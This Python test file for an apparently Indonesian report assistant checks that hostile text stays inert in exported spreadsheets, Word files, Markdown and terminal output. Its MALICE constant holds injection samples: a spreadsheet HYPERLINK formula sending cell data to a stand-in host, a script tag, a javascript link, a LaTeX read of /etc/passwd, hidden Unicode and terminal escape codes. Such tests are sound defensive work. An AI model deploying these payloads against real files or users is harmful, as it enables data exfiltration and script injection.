"""A report of malice through every way out: files, documents, Markdown, the terminal."""

from __future__ import annotations

import csv
import json
import re
import zipfile
from collections.abc import Iterator
from contextlib import closing
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path

import docx
import openpyxl
import pytest

from assistant import export
from assistant.audit import export as findings_export
from assistant.audit.finding import Finding, Spot
from assistant.checklist import form
from assistant.checklist.judge import check
from assistant.cli import main
from assistant.service import Assistant
from assistant.ui import protocol
from assistant.ui.shelf import Shelf
from assistant.ui.turn import Turn
from assistant.ui.words import words
from corpus.errors import TanyaError
from corpus.fact import Fact
from corpus.sheet import markdown
from corpus.visible import HIDDEN
from index import build
from tests.builders import Sheet, fact, performance
from tests.index.fakes import WordEmbedder

MALICE = '=HYPERLINK("http://jahat.example/?"&A1) \u202e35,39\u202c \u200b<script>alert(1)</script> [x](javascript:1) $\\input{/etc/passwd}$ \x1b]0;x\x07 \ufffe'
NAME = f"{MALICE} Indeks Kepuasan Masyarakat"
_UNSEEN = re.compile(f"[{HIDDEN}]")


@pytest.fixture(scope="module")
def assistant(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Assistant]:
    sheet = Sheet().heading("BAB III AKUNTABILITAS KINERJA").heading(f"3.1 {MALICE}", 2).text(f"Penyebab {MALICE}.")
    report = performance(sheet).report(office=f"Kecamatan {MALICE}", file="jahat.txt")
    report = replace(report, identity=replace(report.identity, id="jahat-2024"))
    facts = [
        fact(report, indicator=NAME, as_printed="93,53", note=MALICE, unit=MALICE),
        fact(report, "90", measure="target", indicator=NAME, as_printed="=90"),
    ]
    with closing(Assistant.open(tmp_path_factory.mktemp("hostile"), embedder_factory=WordEmbedder)) as made:
        build.add(made.library, [(report, facts)], WordEmbedder())
        yield made


def seen(text: str) -> None:
    assert not _UNSEEN.search(text)


def cells_are_text(path: Path) -> None:
    for row in openpyxl.load_workbook(path).active.iter_rows():
        for cell in row:
            assert cell.data_type != "f"
            if isinstance(cell.value, str):
                seen(cell.value)
                assert not cell.value.lstrip().startswith(("=", "+", "@"))


def document_is_text(data: bytes, tmp_path: Path) -> None:
    (tmp_path / "a.docx").write_bytes(data)
    with zipfile.ZipFile(tmp_path / "a.docx") as archive:
        for name in archive.namelist():
            if name.endswith(".xml"):
                seen(archive.read(name).decode().replace("\r", ""))
        assert b"jahat.example" not in archive.read("word/_rels/document.xml.rels"), "an address is no link"
    document = docx.Document(str(tmp_path / "a.docx"))
    said = "\n".join(
        [p.text for p in document.paragraphs] + [c.text for t in document.tables for r in t.rows for c in r.cells]
    )
    assert "<script>" in said, "it is shown as the text it is"


def test_facts_as_files(assistant: Assistant, tmp_path: Path):
    facts = assistant.facts()
    for ending in ("jsonl", "csv", "xlsx"):
        assert export.write(facts, tmp_path / f"a.{ending}") == 2
    seen((tmp_path / "a.jsonl").read_text(encoding="utf-8"))
    first = json.loads((tmp_path / "a.jsonl").read_text(encoding="utf-8").splitlines()[0])
    assert first["as_printed"] == "93,53"
    text = (tmp_path / "a.csv").read_text(encoding="utf-8-sig")
    seen(text)
    for row in csv.reader(text.splitlines()):
        assert not any(cell.lstrip().startswith(("=", "+", "@")) for cell in row)
    cells_are_text(tmp_path / "a.xlsx")


def test_findings_as_files(assistant: Assistant, tmp_path: Path):
    (row,) = assistant.list()
    source = assistant.facts()[0].source
    found = findings(assistant.facts()[0])
    for ending in ("jsonl", "xlsx"):
        findings_export.write(found, tmp_path / f"a.{ending}", findings_export.titles_of([row]))
    seen((tmp_path / "a.jsonl").read_text(encoding="utf-8"))
    cells_are_text(tmp_path / "a.xlsx")
    document_is_text(findings_export.content(found, "docx", findings_export.titles_of([row])), tmp_path)
    assert source.file == "jahat.txt"


def findings(one: Fact) -> list[Finding]:
    spot = Spot(MALICE, MALICE, MALICE, None, MALICE, one.source)
    return [
        Finding("rule", "two_values", "high", "jahat-2024", MALICE, (spot,), (), MALICE, MALICE, MALICE, MALICE, MALICE)
    ]


def test_the_review_form(assistant: Assistant, tmp_path: Path):
    result = check(assistant.library.report("jahat-2024"), assistant.library.facts())
    form.write(result, tmp_path / "form.docx")
    document_is_text((tmp_path / "form.docx").read_bytes(), tmp_path)


def test_the_data_sheet_is_markdown_without_markup(assistant: Assistant):
    text = markdown(assistant.sheet("jahat-2024"))
    seen(text)
    assert "<script" not in text.replace("\\<", "")
    assert "](" not in text.replace("\\]\\(", "").replace("\\](", "")
    assert "http://" not in text
    assert not re.search(r"(?<!\\)\$", text)


@pytest.mark.parametrize("kind", ["md", "docx"])
def test_a_saved_conversation(assistant: Assistant, tmp_path: Path, kind: str):
    question = f"berapa realisasi Indeks Kepuasan Masyarakat? {MALICE}"
    answer = assistant.ask("berapa realisasi Indeks Kepuasan Masyarakat 2024?")
    turns = [Turn(question=question, answer=answer, selected=("jahat-2024",))]
    document = list(protocol.pieces(turns, Shelf.of(assistant.list()), words("id"), datetime(2024, 1, 1, tzinfo=UTC)))
    if kind == "docx":
        document_is_text(protocol.word(document), tmp_path)
        return
    text = protocol.markdown(document)
    seen(text)
    assert "<script" not in text
    assert "://" not in text
    assert not re.search(r"(?<!\\)\]\(", text)


@pytest.mark.parametrize(
    "command", [["list"], ["list", "--json"], ["ask", "berapa IKM 2024?"], ["ask", "kenapa?", "--json"], ["facts"], ["audit"], ["sheet", "jahat.txt"], ["sheet", "jahat.txt", "--json"], ["checklist", "jahat.txt"], ["checklist", "jahat.txt", "--json"], ["remove", "\x1b]0;x\x07"]],
    ids=" ".join,
)  # fmt: skip
def test_nothing_commands_the_terminal(
    assistant: Assistant, capsys: pytest.CaptureFixture[str], command: list[str], monkeypatch
):
    monkeypatch.setattr("assistant.service.default_embedder", WordEmbedder)
    status = main([*command, "--library", str(assistant.library.folder)])
    out, err = capsys.readouterr()
    assert status in (0, 2)
    assert out or err
    seen(out.replace("\r", ""))
    seen(err.replace("\r", ""))


def test_errors_are_one_line(assistant: Assistant):
    with pytest.raises(TanyaError) as caught:
        assistant.remove("a\nb\x1b[2J")
    assert "\n" not in str(caught.value)
